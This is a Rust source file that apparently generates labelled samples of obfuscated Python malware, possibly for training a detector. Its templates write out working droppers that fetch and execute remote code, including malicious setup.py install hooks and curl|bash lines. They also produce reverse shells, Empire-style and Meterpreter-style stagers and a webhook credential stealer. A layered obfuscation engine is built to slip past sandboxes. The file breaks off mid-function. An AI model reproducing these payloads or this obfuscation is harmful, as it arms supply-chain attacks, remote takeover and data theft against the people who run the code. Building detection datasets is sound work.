//! Python: stealers and beacons of package indices, stagers of frameworks, reverse shells, and
//! what BlankOBF, Hyperion and their like make of them.

use super::super::{
    Dice, Truth, base64, codes, each, gzip, hex, keyed, put, quoted, rc4, reversed, rot13, xored,
    zlib,
};
use super::{agent, alike, bytes, camel, chunks, cipher, halves, salad, word};

fn name(dice: &mut Dice) -> String {
    match dice.below(4) {
        0 => dice.name(),
        1 => alike(dice, &["O", "0", "OO"]),
        2 => alike(dice, &["l", "I", "1"]),
        _ => camel(dice),
    }
}

/// A module, by one of the ways to come to it.
fn module(dice: &mut Dice, module: &str, before: &mut String) -> String {
    match dice.below(4) {
        0 => {
            before.push_str(&format!("import {module}\n"));
            module.to_owned()
        }
        1 => {
            let name = name(dice);
            before.push_str(&format!("import {module} as {name}\n"));
            name
        }
        2 => format!("__import__('{module}')"),
        _ => format!("__import__(\"{}\")", each(module, "", |byte| format!("\\x{byte:02x}"))),
    }
}

fn base85(bytes: &[u8]) -> String {
    let all =
        b"0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz!#$%&()*+-;<=>?@^_`{|}~";
    let mut out = String::new();
    for chunk in bytes.chunks(4) {
        let mut word = [0u8; 4];
        word[..chunk.len()].copy_from_slice(chunk);
        let mut number = u32::from_be_bytes(word);
        let mut part = [0u8; 5];
        for letter in part.iter_mut().rev() {
            *letter = all[(number % 85) as usize];
            number /= 85;
        }
        out.extend(part[..chunk.len() + 1].iter().map(|it| char::from(*it)));
    }
    out
}

fn xz(bytes: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let options = lzma_rust2::XzOptions::with_preset(6);
    let mut writer = lzma_rust2::XzWriter::new(Vec::new(), options).expect("the options are right");
    writer.write_all(bytes).and_then(|()| writer.finish()).expect("memory takes it")
}

/// Bytes as a literal of bytes has them.
fn each_byte(bytes: &[u8]) -> String {
    let form = |byte: &u8| match byte {
        b'\'' | b'\\' => format!("\\{}", char::from(*byte)),
        0x20..=0x7e => char::from(*byte).to_string(),
        _ => format!("\\x{byte:02x}"),
    };
    bytes.iter().map(form).collect()
}

/// A number as a sum or difference.
fn sum(dice: &mut Dice, number: usize) -> String {
    let other = 100 + dice.below(900);
    match dice.below(3) {
        0 => format!("{} - {other}", number + other),
        1 => format!("{other} ^ {}", number ^ other),
        _ => format!("0x{number:x}"),
    }
}

pub(super) fn hide(dice: &mut Dice, text: &str, before: &mut String) -> String {
    match dice.below(18) {
        0 => {
            let library = module(dice, "base64", before);
            let data = base64(text.as_bytes());
            match dice.below(3) {
                0 => format!("{library}.b64decode('{data}').decode()"),
                1 => format!("{library}.b64decode(b\"{data}\").decode('utf-8')"),
                _ => format!(
                    "str({library}.urlsafe_b64decode('{}'), 'utf8')",
                    cipher::safe(text.as_bytes())
                ),
            }
        }
        1 => match dice.below(3) {
            0 => format!("bytes([{}]).decode()", codes(text.bytes(), ", ")),
            1 => format!("''.join(map(chr, [{}]))", codes(text.bytes(), ",")),
            _ => {
                let list: Vec<String> =
                    text.bytes().map(|it| format!("chr({})", sum(dice, usize::from(it)))).collect();
                list.join("+")
            }
        },
        2 => {
            let (key, letter) = (dice.key(), name(dice));
            let list = codes(xored(text, key), ", ");
            if dice.chance(50) {
                format!("''.join(chr({letter} ^ {key}) for {letter} in [{list}])")
            } else {
                let function = name(dice);
                before.push_str(&format!(
                    "def {function}({letter}, k={key}):\n    return ''.join([chr(c ^ k) for c in {letter}])\n\n"
                ));
                format!("{function}([{list}])")
            }
        }
        3 => {
            let (zip, code) = (module(dice, "zlib", before), module(dice, "base64", before));
            let data = base64(&zlib(text.as_bytes()));
            if dice.chance(50) {
                format!("{zip}.decompress({code}.b64decode('{}'[::-1])).decode()", reversed(&data))
            } else {
                format!("{zip}.decompress({code}.b64decode(b'{data}')).decode('ascii')")
            }
        }
        4 => {
            let data = base64(text.as_bytes());
            let parts = chunks(&data, data.len().div_ceil(4));
            let marks = ["____", "___", "__", "_"];
            for (at, part) in parts.iter().enumerate() {
                let said = match at {
                    0 => rot13(part),
                    2 => reversed(part),
                    _ => part.clone(),
                };
                before.push_str(&format!("{}=\"{said}\";", marks[at]));
            }
            for mark in &marks[parts.len()..] {
                before.push_str(&format!("{mark}=\"\";"));
            }
            before.push('\n');
            let own = name(dice);
            // The names of one line are used again by the next.
            before.push_str(&format!(
                "{own} = __import__(\"\\x62\\x61\\x73\\x65\\x36\\x34\").b64decode(__import__(\"\\x63\\x6f\\x64\\x65\\x63\\x73\").decode(____, \"\\x72\\x6f\\x74\\x31\\x33\")+___+__[::-1]+_).decode()\n"
            ));
            own
        }
        5 => {
            let library = module(dice, "codecs", before);
            if dice.chance(60) {
                format!("{library}.decode('{}', 'rot13')", rot13(text))
            } else {
                format!("{library}.decode('{}', 'hex').decode()", hex(text.as_bytes()))
            }
        }
        6 => match dice.below(3) {
            0 => format!("bytes.fromhex('{}').decode()", hex(text.as_bytes())),
            1 => {
                let library = module(dice, "binascii", before);
                format!("{library}.unhexlify('{}').decode()", hex(text.as_bytes()))
            }
            _ => format!(
                "bytearray.fromhex(\"{}\").decode(\"utf8\")",
                each(text, " ", |it| format!("{it:02X}"))
            ),
        },
        7 => {
            let sum = text.bytes().fold(0usize, |sum, it| sum + usize::from(it)) % 9 + 2;
            let list: Vec<String> =
                text.bytes().map(|it| (usize::from(it) * sum).to_string()).collect();
            format!("''.join(chr(int(_) // {sum}) for _ in '{}'.split('.'))", list.join("."))
        }
        8 => {
            let key = word(dice, 6, 10);
            let data = base64(&keyed(text, &key));
            let code = module(dice, "base64", before);
            if dice.chance(50) {
                let chain = module(dice, "itertools", before);
                format!(
                    "bytes(a ^ b for a, b in zip({code}.b64decode('{data}'), {chain}.cycle(b'{key}'))).decode()"
                )
            } else {
                let function = name(dice);
                before.push_str(&format!(
                    "def {function}(data, key):\n    out = ''\n    raw = {code}.b64decode(data)\n    for i in range(len(raw)):\n        out += chr(raw[i] ^ ord(key[i % len(key)]))\n    return out\n\n"
                ));
                format!("{function}('{data}', '{key}')")
            }
        }
        9 => {
            let step = 2 + dice.below(4);
            let littered = super::sparse(dice, text, step);
            format!("'{littered}'[{}::{step}]", step - 1)
        }
        10 => {
            let pieces = dice.pieces(text);
            let order = dice.order(pieces.len());
            let said: Vec<String> = order.iter().map(|at| pieces[*at].clone()).collect();
            let place = |at: usize| order.iter().position(|it| *it == at).unwrap_or(0);
            match dice.below(3) {
                0 => {
                    let form: String =
                        (0..pieces.len()).map(|at| format!("{{{}}}", place(at))).collect();
                    format!("'{form}'.format({})", quoted(&said, '\'').join(", "))
                }
                1 => {
                    let names: Vec<String> = pieces.iter().map(|_| name(dice)).collect();
                    for at in &order {
                        before.push_str(&format!("{} = '{}'\n", names[*at], pieces[*at]));
                    }
                    let form: String = names.iter().map(|it| format!("{{{it}}}")).collect();
                    format!("f\"{form}\"")
                }
                _ => format!(
                    "'{}' % ({},)",
                    "%s".repeat(pieces.len()),
                    quoted(&pieces, '\'').join(", ")
                ),
            }
        }
        11 => match dice.below(3) {
            0 => format!("'{}'", each(text, "", |byte| format!("\\x{byte:02x}"))),
            1 => format!("\"{}\"", each(text, "", |byte| format!("\\u{byte:04x}"))),
            _ => format!(
                "b'{}'.decode('unicode_escape')",
                each(text, "", |byte| format!("\\\\x{byte:02x}"))
            ),
        },
        12 => {
            let number = hex(text.as_bytes());
            format!("(0x{number}).to_bytes({}, 'big').decode()", text.len())
        }
        13 => {
            let from = "abcdefghijklmnopqrstuvwxyz0123456789";
            let to = dice.shuffled(from);
            let told: String = text
                .chars()
                .map(|it| from.find(it).and_then(|at| to.chars().nth(at)).unwrap_or(it))
                .collect();
            format!("'{told}'.translate(str.maketrans('{to}', '{from}'))")
        }
        14 => {
            let key = salad(dice, 8);
            let (function, data) = (name(dice), base64(&rc4(text.as_bytes(), &key)));
            let code = module(dice, "base64", before);
            before.push_str(&format!(
                "def {function}(data, key):\n    S = list(range(256))\n    j = 0\n    for i in range(256):\n        j = (j + S[i] + key[i % len(key)]) % 256\n        S[i], S[j] = S[j], S[i]\n    i = j = 0\n    out = bytearray()\n    for ch in data:\n        i = (i + 1) % 256\n        j = (j + S[i]) % 256\n        S[i], S[j] = S[j], S[i]\n        out.append(ch ^ S[(S[i] + S[j]) % 256])\n    return bytes(out)\n\n"
            ));
            format!("{function}({code}.b64decode('{data}'), b'{key}').decode()")
        }
        15 => {
            let code = module(dice, "base64", before);
            if dice.chance(50) {
                format!("{code}.b85decode('{}').decode()", base85(text.as_bytes()))
            } else {
                format!("{code}.b16decode('{}').decode()", hex(text.as_bytes()).to_uppercase())
            }
        }
        16 => {
            let (class, by) = (camel(dice), 1 + dice.below(9));
            let moved = codes(text.bytes().map(|it| it + by as u8), ", ");
            before.push_str(&format!(
                "class {class}:\n    _s = {by}\n\n    def __init__(self, v):\n        self.v = v\n\n    def __str__(self):\n        return ''.join(chr(x - self._s) for x in self.v)\n\n"
            ));
            format!("str({class}(({moved},)))")
        }
        _ => {
            let mark = dice.mark(text);
            let littered = dice.littered(text, &mark);
            format!("'{littered}'.replace('{mark}', '')")
        }
    }
}

fn hidden(dice: &mut Dice, text: &str) -> (String, String) {
    let mut before = String::new();
    let word = hide(dice, text, &mut before);
    (before, word)
}

/// The whole script as data that is run.
fn wrapped(dice: &mut Dice, script: &str) -> String {
    match dice.below(12) {
        10 => {
            let data = base64(script.as_bytes());
            let parts = chunks(&data, data.len().div_ceil(4));
            let part = |at: usize| parts.get(at).cloned().unwrap_or_default();
            let hexed = |text: &str| each(text, "", |byte| format!("\\x{byte:02x}"));
            format!(
                "import base64, codecs\nmagic = '{}'\nlove = '{}'\ngod = '{}'\ndestiny = '{}'\njoy = '{}'\ntrust = eval('{}') + eval('{}') + eval('{}') + eval('{}')\neval(compile(base64.b64decode(eval('{}')),'<string>','exec'))\n",
                part(0),
                rot13(&part(1)),
                part(2),
                rot13(&part(3)),
                hexed("rot13"),
                hexed("magic"),
                hexed("codecs.decode(love, joy)"),
                hexed("god"),
                hexed("codecs.decode(destiny, joy)"),
                hexed("trust")
            )
        }
        11 => {
            let data = each_byte(&zlib(script.as_bytes()));
            let (class, one) = (camel(dice), camel(dice));
            format!(
                "from builtins import *\nfrom math import prod as _{one}\nfrom zlib import decompress as _decode\n\n__obfuscated__ = '{class}'\n_run, _text, _list, _apply = exec, str, tuple, map\n\nclass {class}:\n    def __init__(self, _data):\n        self._memory = _{one}((_data, {}))\n        self._mode(_limit=7)\n\n    def _mode(self, _limit):\n        self._memory *= _limit\n        return self._memory\n\n    def _start(self=None, _code=None):\n        _run(_code, globals())\n\ntry:\n    {class}(_data={}).__class__._start(None, _decode(b'{data}'))\nexcept Exception as _error:\n    pass\n",
                dice.below(90_000),
                dice.below(900)
            )
        }
        0 => {
            let mut out = script.to_owned();
            for _ in 0..1 + dice.below(3) {
                let data = reversed(&base64(&zlib(out.as_bytes())));
                out = format!(
                    "_ = lambda __ : __import__('zlib').decompress(__import__('base64').b64decode(__[::-1]));exec((_)(b'{data}'))\n"
                );
            }
            out
        }
        1 => {
            let data = base64(script.as_bytes());
            let parts = chunks(&data, data.len().div_ceil(4));
            let names: Vec<String> = parts.iter().map(|_| alike(dice, &["_"])).collect();
            let mut out = String::new();
            let mut seen = Vec::new();
            for (at, part) in parts.iter().enumerate() {
                // Names of lines differ in their length.
                let own = format!("{}{}", names[at], "_".repeat(20 * at));
                let said = match at {
                    0 => rot13(part),
                    2 => reversed(part),
                    _ => part.clone(),
                };
                out.push_str(&format!("{own}=\"{said}\";"));
                seen.push(own);
            }
            while seen.len() < 4 {
                seen.push("\"\"".to_owned());
            }
            out + &format!(
                "__import__(getattr(__import__(bytes([98,97,115,101,54,52]).decode()),bytes([98,54,52,100,101,99,111,100,101]).decode())(bytes([{}])).decode()).exec(getattr(__import__(bytes([98,97,115,101,54,52]).decode()),bytes([98,54,52,100,101,99,111,100,101]).decode())(__import__(\"codecs\").decode({},\"rot13\")+{}+{}[::-1]+{}))\n",
                codes(base64(b"builtins").bytes(), ","),
                seen[0],
                seen[1],
                seen[2],
                seen[3]
            )
        }
        2 => {
            let (key, vector) = (bytes(dice, 32), bytes(dice, 16));
            let token = cipher::fernet(&key, &vector, script.as_bytes());
            let spaces = " ".repeat(dice.below(2) * 120);
            format!(
                "from cryptography.fernet import Fernet;{spaces}exec(Fernet(b'{}').decrypt(b'{token}'))\n",
                cipher::safe(&key)
            )
        }
        3 => {
            let key = salad(dice, 8);
            let data = base64(&keyed(script, &key));
            format!(
                "import base64\nt = '{key}{data}'\nk = t[:8]\nd = base64.b64decode(t[8:])\nres = ''\nfor i in range(len(d)):\n    c = chr(d[i] ^ ord(k[i & 7]))\n    res += c\nexec(res)\n"
            )
        }
        4 => format!("exec(bytes.fromhex('{}'))\n", hex(script.as_bytes())),
        5 => format!("exec(\"{}\")\n", each(script, "", |byte| format!("\\x{byte:02x}"))),
        6 => format!(
            "exec(__import__('zlib').decompress(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('{}')[0])))\n",
            base64(&zlib(script.as_bytes()))
        ),
        7 => {
            let (list, letter, by) = (name(dice), name(dice), 1 + dice.below(60));
            let moved: Vec<String> =
                script.bytes().map(|it| (usize::from(it) + by).to_string()).collect();
            format!(
                "{list} = [{}]\neval(compile(''.join(chr({letter} - {by}) for {letter} in {list}), '<string>', 'exec'))\n",
                moved.join(", ")
            )
        }
        8 => {
            let data = base64(&xz(script.as_bytes()));
            format!(
                "import lzma, base64\nexec(compile(lzma.decompress(base64.b64decode(b'{data}')), \"<string>\", \"exec\"))\n"
            )
        }
        _ => {
            let (one, two, three) = (name(dice), name(dice), name(dice));
            let data = chunks(&base85(&gzip(script.as_bytes())), 70);
            let lines: String = data.iter().map(|it| format!("    b'{it}'\n")).collect();
            format!(
                "import gzip as {one}, base64 as {two}\n{three} = (\n{lines})\nexec({one}.decompress({two}.b85decode({three})).decode())\n"
            )
        }
    }
}

/// What a victim passes and a sandbox may not, and what means nothing.
fn junk(dice: &mut Dice) -> String {
    let (one, two) = (camel(dice), camel(dice));
    match dice.below(6) {
        0 => format!(
            "{one} = [x * {} for x in range({})]\n{two} = sum({one})\n",
            dice.below(9) + 1,
            dice.below(20) + 3
        ),
        1 => format!(
            "def {one}(a, b={}):\n    return (a << 2) ^ b\n\n{two} = {one}({})\n",
            dice.below(90),
            dice.below(900)
        ),
        2 => format!(
            "if __import__('sys').version_info[0] < 3:\n    raise SystemExit\n{one} = {{'a': {}, 'b': '{two}'}}\n",
            dice.below(99)
        ),
        3 => format!(
            "class {one}(object):\n    def __init__(self):\n        self.{two} = None\n\n    def load(self):\n        return self.{two}\n\n"
        ),
        4 => {
            format!("# -*- coding: utf-8 -*-\n# {one}: see https://www.example.org/licenses/MIT\n")
        }
        _ => format!(
            "try:\n    {one} = int('{}')\nexcept ValueError:\n    {one} = 0\n",
            dice.below(9999)
        ),
    }
}

pub(super) fn dropper(dice: &mut Dice, truth: &mut Truth) -> String {
    let mut script = plain(dice, truth);
    if dice.chance(35) {
        script = junk(dice) + &script;
    }
    if dice.chance(40) { wrapped(dice, &script) } else { script }
}

fn plain(dice: &mut Dice, truth: &mut Truth) -> String {
    match dice.below(14) {
        0 => package_stub(dice, truth),
        1 => setup_script(dice, truth),
        2 => fetch_and_start(dice, truth),
        3 => exec_of_answer(dice, truth),
        4 => reverse_shell(dice, truth),
        5 => framework_stager(dice, truth),
        6 => socket_stager(dice, truth),
        7 => stealer(dice, truth),
        8 => connection(dice, truth),
        9 => commands(dice, truth),
        10 => halves_of_host(dice, truth),
        11 => windows_shell(dice, truth),
        12 => old_server(dice, truth),
        _ => agent_class(dice, truth),
    }
}

/// A second script in a file for the time being, as the W4SP packages had it.
fn package_stub(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", "/inject/", ".py"]);
    let (before, word) = hidden(dice, &url);
    let inner = format!(
        "{before}from urllib.request import urlopen as _uurlopen;exec(_uurlopen({word}).read())"
    );
    let (file, quote) = (dice.name(), "'''");
    if dice.chance(50) {
        format!(
            "from tempfile import NamedTemporaryFile as _ffile\nfrom sys import executable as _eexecutable\nfrom os import system as _ssystem\n_ttmp = _ffile(delete=False)\n_ttmp.write(b{quote}{}{quote})\n_ttmp.close()\ntry: _ssystem(f\"{{_eexecutable}} {{_ttmp.name}}\")\nexcept: pass\n",
            inner.replace('\\', "\\\\")
        )
    } else {
        let (before, word) = hidden(dice, &url);
        format!(
            "import os, sys, subprocess, tempfile\n{before}\nTRIGGER = {word}\nCODE = \"import urllib.request as u;exec(u.urlopen('%s').read())\" % TRIGGER\n\ndef {file}():\n    path = os.path.join(tempfile.gettempdir(), '{file}.py')\n    with open(path, 'w') as handle:\n        handle.write(CODE)\n    subprocess.call([sys.executable, path])\n\n{file}()\n"
        )
    }
}

fn setup_script(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".exe", "/ping"]);
    let (before, word) = hidden(dice, &url);
    let package = dice.name();
    put(
        "from setuptools import setup, find_packages\nfrom setuptools.command.install import install\nimport os\nimport subprocess\n@BEFORE@\nVERSION = '@ONE@.0.@TWO@'\nDESCRIPTION = 'A small helper library'\n\n\ndef _notify():\n    try:\n        @ACT@\n    except Exception:\n        pass\n\n\nclass PostInstall(install):\n    def run(self):\n        install.run(self)\n\n\n_notify()\nsetup(\n    name='@NAME@',\n    version=VERSION,\n    author='@NAME@ team',\n    author_email='dev@example.org',\n    description=DESCRIPTION,\n    packages=find_packages(),\n    install_requires=[],\n    keywords=['python', 'utils'],\n    cmdclass={'install': PostInstall},\n)\n",
        &[
            ("BEFORE", &before),
            (
                "ACT",
                &match dice.below(3) {
                    0 => format!(
                        "import requests\n        requests.post({word}, json={{'h': os.name, 'u': os.getcwd()}}, timeout=5)"
                    ),
                    1 => format!(
                        "import urllib.request\n        body = urllib.request.urlopen({word}).read()\n        open('update.bin', 'wb').write(body)\n        subprocess.Popen(['./update.bin'], shell=True)"
                    ),
                    _ => format!(
                        "subprocess.run(['curl', '-s', '-o', 'x.bin', {word}])\n        subprocess.Popen('./x.bin', shell=True)"
                    ),
                },
            ),
            ("ONE", &dice.below(4).to_string()),
            ("TWO", &dice.below(30).to_string()),
            ("NAME", &package),
        ],
    )
}

fn fetch_and_start(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".exe", "", ".zip", ".bin"]);
    let (before, word) = hidden(dice, &url);
    let (file, function) = (dice.name(), camel(dice));
    match dice.below(4) {
        0 => format!(
            "import os, requests, subprocess, tempfile\n{before}\ndef {function}():\n    url = {word}\n    path = os.path.join(os.getenv('TEMP') or tempfile.gettempdir(), '{file}.exe')\n    r = requests.get(url, headers={{'User-Agent': '{}'}}, stream=True)\n    with open(path, 'wb') as f:\n        for chunk in r.iter_content(chunk_size=8192):\n            f.write(chunk)\n    subprocess.Popen(path, shell=True)\n\nif __name__ == '__main__':\n    {function}()\n",
            agent(dice)
        ),
        1 => format!(
            "import urllib.request, os, stat\n{before}p, _ = urllib.request.urlretrieve({word}, '{file}')\nos.chmod(p, os.stat(p).st_mode | stat.S_IEXEC)\nos.system('./{file} &')\n"
        ),
        2 => format!(
            "from urllib.request import Request, urlopen\nimport os, tempfile, threading\n{before}\ndef {function}(u):\n    req = Request(u, headers={{'User-Agent': '{}'}})\n    data = urlopen(req, timeout=30).read()\n    fd, name = tempfile.mkstemp(suffix='.exe')\n    os.write(fd, data)\n    os.close(fd)\n    os.chmod(name, 0o755)\n    os.system(name)\n\nt = threading.Thread(target={function}, args=({word},))\nt.start()\nt.join()\n",
            agent(dice)
        ),
        _ => {
            let loader = dice.chance(50);
            let import = if loader {
                "import urllib.request as _u"
            } else {
                "_u = __import__('urllib.request', fromlist=['urlopen'])"
            };
            format!(
                "{before}{import}\nimport os\nwith open('{file}', 'wb') as _f: _f.write(getattr(_u, 'url' + 'open')({word}).read())\ngetattr(__import__('os'), 'sys' + 'tem')('chmod +x {file}; ./{file}')\n"
            )
        }
    }
}

fn exec_of_answer(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &["", ".py", ".txt", "/raw", "/raw?token=7f31", ".php?id=2"]);
    let (before, word) = hidden(dice, &url);
    match dice.below(6) {
        0 => {
            format!("{before}import requests;{}exec(requests.get({word}).text)\n", " ".repeat(200))
        }
        1 => format!("{before}exec(__import__('requests').get({word}).content)\n"),
        2 => format!(
            "{before}import urllib.request as r\nexec(compile(r.urlopen({word}).read(), '<s>', 'exec'))\n"
        ),
        3 => format!(
            "import ssl, urllib.request\n{before}ctx = ssl.create_default_context()\nctx.check_hostname = False\nctx.verify_mode = ssl.CERT_NONE\nexec(urllib.request.urlopen({word}, context=ctx).read().decode())\n"
        ),
        4 => format!(
            "{before}import sys;u=__import__('urllib'+{{2:'',3:'.request'}}[sys.version_info[0]],fromlist=('urlopen',));r=u.urlopen({word});exec(r.read());\n"
        ),
        _ => {
            let text = format!("import requests\nexec(requests.get('{url}').text)\n");
            let function = camel(dice);
            format!(
                "import base64\n\ndef {function}(value):\n    exec(base64.b64decode(value))\n\n{function}('{}')\n",
                base64(text.as_bytes())
            )
        }
    }
}

fn reverse_shell(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let (before, word) = hidden(dice, &host);
    let number = if dice.chance(40) { sum(dice, usize::from(port)) } else { port.to_string() };
    match dice.below(5) {
        0 => format!(
            "{before}import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(({word},{number}));os.dup2(s.fileno(),0); os.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call([\"/bin/sh\",\"-i\"]);\n"
        ),
        1 => format!(
            "{before}import os,pty,socket;s=socket.socket();s.connect(({word},{number}));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"sh\")\n"
        ),
        2 => format!(
            "import socket as s\nimport subprocess as sp\n{before}\nHOST = {word}\nPORT = {number}\n\ns1 = s.socket(s.AF_INET, s.SOCK_STREAM)\ns1.setsockopt(s.SOL_SOCKET, s.SO_REUSEADDR, 1)\ns1.connect((HOST, PORT))\nwhile True:\n    c = s1.recv(1024).decode()\n    if not c:\n        break\n    p = sp.Popen(c, shell=True, stdout=sp.PIPE, stderr=sp.PIPE, stdin=sp.PIPE)\n    s1.sendall(p.stdout.read() + p.stderr.read())\n"
        ),
        3 => format!(
            "{before}import asyncio\n\nasync def main():\n    reader, writer = await asyncio.open_connection({word}, {number})\n    while True:\n        line = await reader.readline()\n        if not line:\n            break\n        p = await asyncio.create_subprocess_shell(line.decode(), stdout=asyncio.subprocess.PIPE)\n        out, _ = await p.communicate()\n        writer.write(out)\n        await writer.drain()\n\nasyncio.run(main())\n"
        ),
        _ => {
            let octets: Vec<u8> = host.split('.').filter_map(|it| it.parse().ok()).collect();
            let place = if let [a, b, c, d] = octets[..] {
                let number = u32::from_be_bytes([a, b, c, d]);
                format!("socket.inet_ntoa(struct.pack('>I', {number}))")
            } else {
                word
            };
            format!(
                "{before}import socket, struct, subprocess, time\n_p = {number}\nfor _ in range(3):\n    try:\n        _s = socket.create_connection(({place}, _p), timeout=10)\n        break\n    except OSError:\n        time.sleep(0)\nelse:\n    raise SystemExit\n_s.send(b'hello\\n')\nsubprocess.call('/bin/sh', stdin=_s.fileno(), stdout=_s.fileno())\n"
            )
        }
    }
}

/// Empire, Merlin-like and other stagers: server and page are apart.
fn framework_stager(dice: &mut Dice, truth: &mut Truth) -> String {
    let page = dice.pick(&["/admin/get.php", "/news.php", "/login/process.php", "/api/v1/stage"]);
    let server = format!("{}://{}:{}", dice.pick(&["http", "https"]), dice.host(), dice.port());
    truth.urls.insert(format!("{server}{page}"));
    let (before, word) = hidden(dice, &server);
    let inner = format!(
        "import sys;\nimport re, subprocess;\n{before}o=__import__({{2:'urllib2',3:'urllib.request'}}[sys.version_info[0]],fromlist=['build_opener']).build_opener();UA='{}';server={word};t='{page}';\no.addheaders=[('User-Agent',UA), (\"Cookie\", \"session={}=\")];\na=o.open(server+t).read();\nIV=a[0:4];data=a[4:];key=IV+'{}'.encode('UTF-8');S,j,out=list(range(256)),0,[];\nfor i in list(range(256)):\n    j=(j+S[i]+key[i%len(key)])%256;\n    S[i],S[j]=S[j],S[i];\ni=j=0;\nfor char in data:\n    i=(i+1)%256;\n    j=(j+S[i])%256;\n    S[i],S[j]=S[j],S[i];\n    out.append(chr(char^S[(S[i]+S[j])%256]));\nexec(''.join(out));\n",
        agent(dice),
        salad(dice, 27),
        salad(dice, 32)
    );
    if dice.chance(70) {
        format!(
            "import sys,base64,warnings;warnings.filterwarnings('ignore');exec(base64.b64decode('{}'));\n",
            base64(inner.as_bytes())
        )
    } else {
        inner
    }
}

/// Meterpreter's stager over TCP.
fn socket_stager(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = truth.endpoint(dice);
    let inner = format!(
        "import socket,zlib,base64,struct,time\nfor x in range(10):\n\ttry:\n\t\ts=socket.socket(2,socket.SOCK_STREAM)\n\t\ts.connect(('{host}',{port}))\n\t\tbreak\n\texcept:\n\t\ttime.sleep(5)\nl=struct.unpack('>I',s.recv(4))[0]\nd=s.recv(l)\nwhile len(d)<l:\n\td+=s.recv(l-len(d))\nexec(zlib.decompress(base64.b64decode(d)),{{'s':s}})\n"
    );
    if dice.chance(50) {
        format!(
            "exec(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('{}')[0]))\n",
            base64(inner.as_bytes())
        )
    } else {
        format!(
            "exec(__import__('zlib').decompress(__import__('base64').b64decode(__import__('codecs').getencoder('utf-8')('{}')[0])))\n",
            base64(&zlib(inner.as_bytes()))
        )
    }
}

/// A hook takes what was found.
fn stealer(dice: &mut Dice, truth: &mut Truth) -> String {
    let host = dice.host();
    let url = format!(
        "https://{host}/api/webhooks/{}/{}",
        dice.below(900_000_000) + 100_000_000,
        salad(dice, 40)
    );
    truth.urls.insert(url.clone());
    let (before, word) = hidden(dice, &url);
    let (class, function) = (camel(dice), camel(dice));
    let send = match dice.below(3) {
        0 => "        requests.post(self.hook, json=payload)\n",
        1 => {
            "        req = urllib.request.Request(self.hook, data=json.dumps(payload).encode(), headers={'Content-Type': 'application/json', 'User-Agent': 'Mozilla/5.0'})\n        urllib.request.urlopen(req)\n"
        }
        _ => {
            "        s = requests.Session()\n        s.headers.update({'User-Agent': 'Mozilla/5.0'})\n        s.request('POST', self.hook, data={'payload_json': json.dumps(payload)})\n"
        }
    };
    format!(
        "import json\nimport os\nimport platform\nimport getpass\nimport urllib.request\ntry:\n    import requests\nexcept ImportError:\n    requests = None\n{before}\n__CONFIG__ = {{\n    'webhook': {word},\n    'ping': True,\n    'error': False,\n    'injection': False,\n}}\n\n\nclass {class}:\n    def __init__(self, hook):\n        self.hook = hook\n        self.rows = []\n\n    def {function}(self):\n        for name in ('alpha', 'beta', 'gamma'):\n            self.rows.append((name, len(name)))\n\n    def send(self):\n        payload = {{\n            'username': 'report',\n            'content': '@everyone' if __CONFIG__['ping'] else '',\n            'embeds': [{{'title': platform.system(), 'description': getpass.getuser(), 'fields': self.rows}}],\n        }}\n{send}\n\ndef main():\n    it = {class}(__CONFIG__['webhook'])\n    it.{function}()\n    it.send()\n\n\nif __name__ == '__main__':\n    main()\n"
    )
}

/// A connection object instead of a URL.
fn connection(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, path) = (dice.host(), format!("/{}/{}", dice.name(), dice.name()));
    let secure = dice.chance(50);
    let port = dice.port();
    let kind = if secure { "HTTPSConnection" } else { "HTTPConnection" };
    let scheme = if secure { "https" } else { "http" };
    truth.urls.insert(format!("{scheme}://{host}:{port}{path}"));
    let (before, word) = hidden(dice, &host);
    let (more, page) = hidden(dice, &path);
    format!(
        "import http.client, os, platform\n{before}{more}\nc = http.client.{kind}({word}, {port}, timeout=10)\nc.request('GET', {page}, headers={{'User-Agent': '{}', 'X-Id': platform.node()}})\nr = c.getresponse()\nif r.status == 200:\n    exec(r.read())\n",
        agent(dice)
    )
}

fn commands(dice: &mut Dice, truth: &mut Truth) -> String {
    let url = truth.url(dice, &[".sh", "", ".ps1"]);
    let (before, word) = hidden(dice, &url);
    match dice.below(5) {
        0 => format!("import os\n{before}os.system('curl -s ' + {word} + ' | bash')\n"),
        1 => format!(
            "{before}import subprocess\nsubprocess.Popen('wget -qO- %s | sh' % ({word}), shell=True, stdout=subprocess.DEVNULL)\n"
        ),
        2 => format!(
            "import os\n{before}_ = os.popen(\"curl -sSL {{}} -o ./.d && sh ./.d\".format({word})).read()\n"
        ),
        3 => format!(
            "import subprocess, sys\n{before}cmd = ['wget', '-q', {word}, '-O', '.svc']\nif sys.platform.startswith('linux'):\n    subprocess.check_call(cmd)\n    subprocess.Popen(['sh', '.svc'])\n"
        ),
        _ => {
            let line = format!("curl -fsSL {url} | bash");
            format!(
                "__import__('subprocess').run(__import__('base64').b64decode('{}').decode(), shell=True)\n",
                base64(line.as_bytes())
            )
        }
    }
}

/// Halves of an encoded host change places, as BeaverTail and InvisibleFerret do.
fn halves_of_host(dice: &mut Dice, truth: &mut Truth) -> String {
    let (host, port) = (dice.host(), dice.port());
    let kind = dice.name();
    truth.urls.insert(format!("http://{host}:{port}/payload/{kind}/root"));
    let data = base64(host.as_bytes());
    let cut = data.len() / 2;
    let turned = format!("{}{}", &data[cut..], &data[..cut]);
    let back = data.len() - cut;
    format!(
